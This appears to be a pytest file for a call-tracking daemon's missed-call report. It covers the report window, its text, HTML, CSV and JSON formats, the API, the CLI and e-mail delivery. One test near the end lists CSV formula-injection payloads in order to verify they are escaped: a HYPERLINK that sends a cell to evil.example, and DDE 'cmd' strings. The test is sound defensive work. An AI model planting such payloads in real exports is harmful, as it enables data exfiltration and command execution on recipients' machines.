"""The morning missed-call report: its rows, its window, its formats, and its delivery."""

from __future__ import annotations

import csv
import io
import json
from collections.abc import AsyncIterator
from dataclasses import replace
from datetime import UTC, date, datetime, time, timedelta
from pathlib import Path
from zoneinfo import ZoneInfo

import pytest
from aiohttp.test_utils import TestClient

from config.settings import Settings, load_settings
from daemon.report import RENDERERS, MissedReport, MissedRow, missed_report
from daemon.report.mail import send_report
from daemon.report.query import ROW_FIELDS
from daemon.report.render import CSV_HEADINGS, report_json
from daemon.report.window import Window, WindowError, previous_close, report_window, resolve
from daemon.store.repository import Repository
from tests.conftest import auth, run_cli
from tests.scenarios import REPORT_SINCE, REPORT_UNTIL, Step, replay, steps
from tests.support.mailserver import Mailbox, mail_server

MOSCOW = ZoneInfo("Europe/Moscow")
WINDOW = Window(since=REPORT_SINCE, until=REPORT_UNTIL)
CLOSING_MON_FRI_19 = {day: time(19, 0) for day in range(5)}
ORLOV = "+79031112233"


async def report(repo: Repository, *, include_all: bool = False) -> MissedReport:
    return await missed_report(repo, WINDOW, tz=MOSCOW, include_called_back=include_all)


def another_hidden_call(number: int) -> list[Step]:
    """The hidden-number example again, as a different call (its own entry and leg ids)."""
    out = []
    for step in steps("hidden_number_after_hours.json"):
        data = json.loads(json.dumps(step.json))
        data["entry_id"] += f"-{number}"
        if "call_id" in data:
            data["call_id"] += f"-{number}"
        for key in ("timestamp", "create_time", "end_time"):
            if key in data:
                data[key] += 600 * number
        out.append(Step(step.path, data))
    return out


# -- the rows -----------------------------------------------------------------------------------


async def test_missed_caller_is_listed_for_the_responsible_manager(
    client: TestClient, office: Repository
) -> None:
    """missed_incoming.json: Орлов Дмитрий, whose manager is 106, is to be called back."""
    await replay(client, steps("missed_incoming.json"))
    (row,) = (await report(office)).rows
    assert (row.phone, row.responsible_extension, row.responsible_name) == (
        ORLOV,
        "106",
        "Петров Алексей",
    )
    assert (row.contact_name, row.missed_calls, row.called_back) == ("Орлов Дмитрий", 1, False)
    assert (row.line_number, row.ad_source) == ("74951234567", "Яндекс.Директ")
    assert (
        row.first_missed_at
        == row.last_missed_at
        == datetime.fromtimestamp(1760003595, UTC)
    )


async def test_called_back_caller_leaves_the_report_but_all_shows_him(
    client: TestClient, office: Repository
) -> None:
    """outgoing_callback.json: manager 105 reached him afterwards, so he is called back."""
    await replay(client, steps("missed_incoming.json"))
    await replay(client, steps("outgoing_callback.json"))
    assert (await report(office)).rows == ()
    (row,) = (await report(office, include_all=True)).rows
    assert (row.phone, row.called_back) == (ORLOV, True)


async def test_callback_before_the_missed_call_does_not_count(
    client: TestClient, office: Repository
) -> None:
    """Only a call *after* the missed one counts: the calls' order matters, not the delivery's."""
    early = []
    for step in steps("outgoing_callback.json"):
        data = json.loads(json.dumps(step.json))
        for key in ("timestamp", "create_time", "forward_time", "talk_time", "end_time"):
            if key in data:
                data[key] -= 7200  # two hours before the missed call
        early.append(Step(step.path, data))
    await replay(client, early)
    await replay(client, steps("missed_incoming.json"))
    (row,) = (await report(office)).rows
    assert (row.phone, row.called_back) == (ORLOV, False)


async def test_hidden_numbers_are_counted_in_one_row_without_a_phone(
    client: TestClient, office: Repository
) -> None:
    await replay(client, steps("hidden_number_after_hours.json"))
    await replay(client, another_hidden_call(1))
    await replay(client, steps("missed_incoming.json"))
    rows = (await report(office)).rows
    assert [(r.phone, r.missed_calls) for r in rows] == [(ORLOV, 1), (None, 2)]
    hidden = rows[1]
    assert (hidden.contact_id, hidden.responsible_extension, hidden.called_back) == (
        None,
        None,
        False,
    )


async def test_answered_and_internal_calls_are_not_missed(
    client: TestClient, office: Repository
) -> None:
    for name in ("answered_incoming.json", "internal_call.json", "group_answered_by_second.json"):
        await replay(client, steps(name))
    assert (await report(office, include_all=True)).rows == ()


# -- the window ------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("now", "since"),
    [
        ("2025-10-13T08:30", "2025-10-10T19:00"),  # Monday morning: since Friday's close
        ("2025-10-14T08:30", "2025-10-13T19:00"),  # Tuesday: since Monday's close
        ("2025-10-14T20:00", "2025-10-13T19:00"),  # Tuesday evening: still the day before's close
        ("2025-10-12T10:00", "2025-10-10T19:00"),  # Sunday: Friday
        ("2025-10-13T00:10", "2025-10-10T19:00"),  # just after midnight on Monday
    ],
)
def test_default_window_starts_at_the_previous_working_days_close(now: str, since: str) -> None:
    moment = datetime.fromisoformat(now).replace(tzinfo=MOSCOW)
    found = previous_close(moment, tz=MOSCOW, closing=CLOSING_MON_FRI_19)
    assert found == datetime.fromisoformat(since).replace(tzinfo=MOSCOW)


def test_holidays_are_skipped_like_weekends() -> None:
    moment = datetime(2025, 11, 5, 8, 30, tzinfo=MOSCOW)  # Wednesday after the 3rd and 4th off
    found = previous_close(
        moment,
        tz=MOSCOW,
        closing=CLOSING_MON_FRI_19,
        holidays={date(2025, 11, 3), date(2025, 11, 4)},
    )
    assert found == datetime(2025, 10, 31, 19, 0, tzinfo=MOSCOW)


def test_window_follows_the_report_settings_without_office_hours(settings: Settings) -> None:
    """Office closes at 18:00 and works Saturdays: Monday's report starts on Saturday evening."""
    custom = settings.model_copy(
        update={
            "report_day_end": "18:00",
            "report_working_days": ("mon", "tue", "wed", "thu", "fri", "sat"),
        }
    )
    now = datetime(2025, 10, 13, 5, 30, tzinfo=UTC)  # Monday 08:30 in Moscow
    assert report_window(custom, now) == Window(
        since=now - timedelta(days=7), until=now, night_since=datetime(2025, 10, 11, 18, 0, tzinfo=MOSCOW)
    )


def test_window_follows_the_office_hours_and_holidays_when_set() -> None:
    """The routing's office hours win: Friday closes at 17:00, Saturday at midnight, and a holiday
    Saturday sends Monday's report back to Friday's close."""
    hours = {
        "mon": "09:00-13:00, 14:00-19:30",
        "tue": "09:00-19:30",
        "wed": "09:00-19:30",
        "thu": "09:00-19:30",
        "fri": "09:00-17:00",
        "sat": "10:00-24:00",
    }
    office = load_settings(
        {"CALLBRIDGE_CONFIG": "", "CALLBRIDGE_TIMEZONE": "Europe/Moscow"}
    ).model_copy(update={"office_hours": hours})
    monday = datetime(2025, 10, 13, 5, 30, tzinfo=UTC)
    tuesday = datetime(2025, 10, 14, 5, 30, tzinfo=UTC)
    assert report_window(office, monday).night_since == datetime(2025, 10, 12, 0, 0, tzinfo=MOSCOW)
    assert report_window(office, tuesday).night_since == datetime(2025, 10, 13, 19, 30, tzinfo=MOSCOW)
    closed_saturday = office.model_copy(update={"holidays": [date(2025, 10, 11)]})
    assert report_window(closed_saturday, monday).night_since == datetime(
        2025, 10, 10, 17, 0, tzinfo=MOSCOW
    )


def test_times_without_an_offset_are_office_time_and_bad_ones_are_refused(
    settings: Settings,
) -> None:
    window = resolve(
        lambda end: report_window(settings, end),
        since="2025-10-09T19:00",
        until="2025-10-10",
        tz=MOSCOW,
    )
    assert window == Window(
        since=datetime(2025, 10, 9, 19, 0, tzinfo=MOSCOW),
        until=datetime(2025, 10, 10, 0, 0, tzinfo=MOSCOW),
    )
    with pytest.raises(WindowError, match="since"):
        resolve(lambda end: report_window(settings, end), since="yesterday", until=None, tz=MOSCOW)
    with pytest.raises(WindowError, match="must be after"):
        resolve(
            lambda end: report_window(settings, end),
            since="2025-10-10",
            until="2025-10-09",
            tz=MOSCOW,
        )


# -- the formats -----------------------------------------------------------------------------


def sample_report(include_all: bool = True) -> MissedReport:
    at = datetime(2025, 10, 9, 9, 53, 15, tzinfo=UTC)
    rows = (
        MissedRow(
            ORLOV,
            7,
            "Орлов <b>Дмитрий</b> & сын",
            "106",
            "Петров Алексей",
            2,
            at,
            at.replace(hour=10, minute=5),
            "74951234567",
            "Яндекс.Директ",
            False,
        ),
        MissedRow(
            "+79161234567",
            8,
            "Кузнецова Анна",
            "105",
            "Иванова Мария",
            1,
            at,
            at,
            "74951234567",
            None,
            True,
        ),
        MissedRow(
            None, None, None, None, None, 3, at, at.replace(day=10), "74951234567", None, False
        ),
    )
    return MissedReport(
        window=Window(
            datetime(2025, 10, 8, 16, 0, tzinfo=UTC),
            datetime(2025, 10, 10, 5, 30, tzinfo=UTC),
        ),
        tz=MOSCOW,
        include_called_back=include_all,
        rows=rows,
    )


def test_text_is_grouped_by_manager_in_office_time() -> None:
    text = RENDERERS["text"](sample_report())
    lines = text.splitlines()
    assert lines[0] == ("Пропущенные звонки, ср 08.10.2025 19:00 – пт 10.10.2025 08:30"
                        " (время офиса, Europe/Moscow)")
    assert lines[1] == "3 абонента, 6 пропущенных звонков, перезвонить: 1."
    headings = [line for line in lines if line and not line.startswith(" ")][2:]
    assert headings == [
        "Петров Алексей (доб. 106): 1 абонент",
        "Иванова Мария (доб. 105): 1 абонент",
        "Без ответственного: 1 абонент",
    ]
    assert (
        "+7 903 111-22-33" in text and "09.10 12:53 … 13:05" in text
    )  # 09:53 UTC is 12:53 in Moscow
    assert "номер скрыт" in text and "[перезвонили]" in text


def test_html_escapes_names_and_groups_by_manager() -> None:
    page = RENDERERS["html"](sample_report())
    assert "<b>Дмитрий</b>" not in page
    assert "Орлов &lt;b&gt;Дмитрий&lt;/b&gt; &amp; сын" in page
    assert page.count("<table>") == 3
    assert (
        page.index("Петров Алексей (доб. 106)")
        < page.index("Иванова Мария (доб. 105)")
        < page.index("Без ответственного")
    )
    assert 'href="tel:+79031112233"' in page


def test_csv_and_json_carry_every_field_with_offsets() -> None:
    sample = sample_report()
    rows = list(csv.DictReader(io.StringIO(RENDERERS["csv"](sample))))
    assert tuple(rows[0]) == tuple(CSV_HEADINGS[name] for name in ROW_FIELDS)
    # For the spreadsheet a person opens: Russian headings, office time to the minute, да/нет.
    assert (rows[0]["Телефон"], rows[0]["Перезвонили"], rows[0]["Первый пропущенный"]) == (
        ORLOV,
        "нет",
        "09.10.2025 12:53",
    )
    assert (rows[2]["Телефон"], rows[2]["ID контакта"]) == ("", "")
    doc = json.loads(RENDERERS["json"](sample))
    assert doc == report_json(sample) | {"rows": doc["rows"]}
    assert [r["phone"] for r in doc["rows"]] == [ORLOV, "+79161234567", None]
    assert doc["rows"][1]["called_back"] is True and doc["missed_calls"] == 6


def test_an_empty_report_says_so() -> None:
    empty = MissedReport(window=WINDOW, tz=MOSCOW, include_called_back=False, rows=())
    assert "Перезванивать некому." in RENDERERS["text"](empty)
    assert json.loads(RENDERERS["json"](empty))["rows"] == []


# -- the HTTP API ----------------------------------------------------------------------------


async def test_api_serves_the_report_as_json_behind_the_token(
    client: TestClient, office: Repository
) -> None:
    await replay(client, steps("missed_incoming.json"))
    await replay(client, steps("outgoing_callback.json"))
    params = {"since": REPORT_SINCE.isoformat(), "until": REPORT_UNTIL.isoformat()}
    assert (await client.get("/api/reports/missed", params=params)).status == 401
    resp = await client.get("/api/reports/missed", params=params, headers=auth())
    assert resp.status == 200
    assert (await resp.json())["rows"] == []
    resp = await client.get("/api/reports/missed", params=params | {"all": "true"}, headers=auth())
    (row,) = (await resp.json())["rows"]
    assert (row["phone"], row["responsible_extension"], row["called_back"]) == (ORLOV, "106", True)
    assert row["first_missed_at"] == "2025-10-09T12:53:15+03:00"


async def test_api_refuses_bad_parameters_clearly(client: TestClient) -> None:
    for params, problem in (
        ({"since": "soon"}, "since"),
        ({"format": "pdf"}, "format"),
        ({"all": "maybe"}, "all"),
        ({"since": "2025-10-10", "until": "2025-10-01"}, "must be after"),
    ):
        resp = await client.get("/api/reports/missed", params=params, headers=auth())
        assert resp.status == 400
        assert problem in (await resp.json())["error"]


async def test_api_default_window_ends_now(client: TestClient) -> None:
    resp = await client.get("/api/reports/missed", headers=auth())
    doc = await resp.json()
    until = datetime.fromisoformat(doc["until"])
    assert abs((datetime.now(UTC) - until).total_seconds()) < 60
    assert datetime.fromisoformat(doc["night_since"]).strftime("%H:%M") == "19:00"
    assert 6.9 < (until - datetime.fromisoformat(doc["since"])).total_seconds() / 86400 <= 7


# -- delivery: CLI, file, e-mail -------------------------------------------------------------


@pytest.fixture
async def mailbox() -> AsyncIterator[Mailbox]:
    """A real SMTP server (aiosmtpd) on 127.0.0.1 that keeps what it is sent."""
    async with mail_server() as box:
        yield box


def mail_settings(settings: Settings, mailbox: Mailbox) -> Settings:
    return settings.model_copy(
        update={
            "smtp_host": "127.0.0.1",
            "smtp_port": mailbox.port,
            "smtp_security": "none",
            "report_email_from": "callbridge@agency.test",
            "report_email_to": ("sales@agency.test", "boss@agency.test"),
        }
    )


async def test_email_carries_text_html_and_csv(
    client: TestClient, office: Repository, settings: Settings, mailbox: Mailbox
) -> None:
    await replay(client, steps("missed_incoming.json"))
    await send_report(await report(office), mail_settings(settings, mailbox))
    (envelope,) = mailbox.received
    assert envelope.rcpt_tos == ["sales@agency.test", "boss@agency.test"]
    (message,) = mailbox.messages()
    assert message["Subject"].startswith("Пропущенные звонки: перезвонить 1")
    parts = {part.get_content_type(): part for part in message.walk() if not part.is_multipart()}
    assert "Орлов Дмитрий" in parts["text/plain"].get_payload(decode=True).decode()
    assert "Орлов Дмитрий" in parts["text/html"].get_payload(decode=True).decode()
    attached = parts["text/csv"]
    assert attached.get_filename().startswith("пропущенные-звонки-")
    assert ORLOV in attached.get_payload(decode=True).decode()




async def test_cli_report_to_stdout_file_and_email(
    client: TestClient, office: Repository, settings: Settings, mailbox: Mailbox, tmp_path: Path
) -> None:
    await replay(client, steps("missed_incoming.json"))
    window = ["--since", "2025-10-09", "--until", "2025-10-10T00:00+03:00"]
    code, out, err = await run_cli(settings, "report", "missed", *window, "--format", "json")
    assert code == 0, err
    (row,) = json.loads(out)["rows"]
    assert (row["phone"], row["responsible_extension"]) == (ORLOV, "106")

    target = tmp_path / "report.html"
    mail_env = {
        "CALLBRIDGE_SMTP_HOST": "127.0.0.1",
        "CALLBRIDGE_SMTP_PORT": str(mailbox.port),
        "CALLBRIDGE_SMTP_SECURITY": "none",
        "CALLBRIDGE_REPORT_EMAIL_FROM": "cb@agency.test",
        "CALLBRIDGE_REPORT_EMAIL_TO": "sales@agency.test",
    }
    code, out, err = await run_cli(
        settings,
        "report",
        "missed",
        *window,
        "--format",
        "html",
        "--output",
        str(target),
        "--email",
        extra_env=mail_env,
    )
    assert (code, out) == (0, ""), err
    assert "Орлов Дмитрий" in target.read_text(encoding="utf-8")
    assert [m["To"] for m in mailbox.messages()] == ["sales@agency.test"]


async def test_cli_report_all_and_errors(
    client: TestClient, office: Repository, settings: Settings
) -> None:
    await replay(client, steps("missed_incoming.json"))
    await replay(client, steps("outgoing_callback.json"))
    window = ["--since", "2025-10-09", "--until", "2025-10-10"]
    code, out, _ = await run_cli(settings, "report", "missed", *window)
    assert code == 0 and "Перезванивать некому." in out
    code, out, _ = await run_cli(settings, "report", "missed", *window, "--all", "--format", "csv")
    (row,) = list(csv.DictReader(io.StringIO(out)))
    assert (row["Телефон"], row["Перезвонили"]) == (ORLOV, "да")
    code, _, err = await run_cli(settings, "report", "missed", "--since", "last tuesday")
    assert code == 1 and "since" in err and err.count("\n") == 1
    code, _, err = await run_cli(settings, "report", "missed", "--email")
    assert code == 2 and "smtp_host" in err


def test_settings_read_lists_from_the_environment() -> None:
    loaded = load_settings(
        {
            "CALLBRIDGE_REPORT_EMAIL_TO": "a@x.test, b@x.test",
            "CALLBRIDGE_REPORT_WORKING_DAYS": "mon,tue,wed,thu,fri,sat",
        }
    )
    assert loaded.report.email_to == ("a@x.test", "b@x.test")
    assert loaded.report.working_days[-1] == "sat"


@pytest.mark.parametrize("hostile", ['=HYPERLINK("http://evil.example/?"&A1,"Click")', "+cmd|' /C calc'!A0",
                                     "-2+3+cmd|' /C calc'!A0", "@SUM(1+9)*cmd|' /C calc'!A0",
                                     "\t=1+1", "\r=1+1"])
def test_csv_cells_that_a_spreadsheet_would_run_are_escaped(hostile: str) -> None:
    """A caller's name, line or ad source is written by others; the e-mailed CSV must not run it."""
    at = datetime(2025, 10, 9, 9, 53, 15, tzinfo=UTC)
    row = MissedRow(hostile, 7, hostile, "106", hostile, 1, at, at, hostile, hostile, False)
    report = MissedReport(window=WINDOW, tz=MOSCOW, include_called_back=True, rows=(row,))
    (parsed,) = list(csv.DictReader(io.StringIO(RENDERERS["csv"](report))))
    for column in ("Телефон", "Абонент", "Ответственный", "Линия", "Реклама"):
        assert parsed[column] == "'" + hostile, column
    # Numbers stay numbers: a phone in E.164 starts with "+" and is no formula.
    plain = MissedRow("+79161234567", 8, "-", "105", None, 1, at, at, "+74951234567", None, False)
    (kept,) = list(csv.DictReader(io.StringIO(RENDERERS["csv"](
        MissedReport(window=WINDOW, tz=MOSCOW, include_called_back=True, rows=(plain,))))))
    assert (kept["Телефон"], kept["Линия"], kept["Абонент"]) == ("+79161234567", "+74951234567", "'-")


def test_a_manager_known_by_name_only_has_his_own_group() -> None:
    """An import may know a responsible by name before the PBX sync gives him an extension:
    his missed callers are his, listed after the managers with extensions, before the unassigned."""
    from daemon.report.query import _order

    at = datetime(2025, 10, 9, 9, 53, 15, tzinfo=UTC)
    named = MissedRow("+79165550011", 9, "Орлова Ирина", None, "Сидорова Ольга", 1, at, at, "74951234567", None, False)
    rows = sorted((*sample_report().rows, named), key=lambda row: _order(row, None))
    report = replace(sample_report(), rows=tuple(rows))
    headings = [line for line in RENDERERS["text"](report).splitlines() if line and not line.startswith(" ")][2:]
    assert headings == [
        "Иванова Мария (доб. 105): 1 абонент",
        "Петров Алексей (доб. 106): 1 абонент",
        "Сидорова Ольга: 1 абонент",
        "Без ответственного: 1 абонент",
    ]
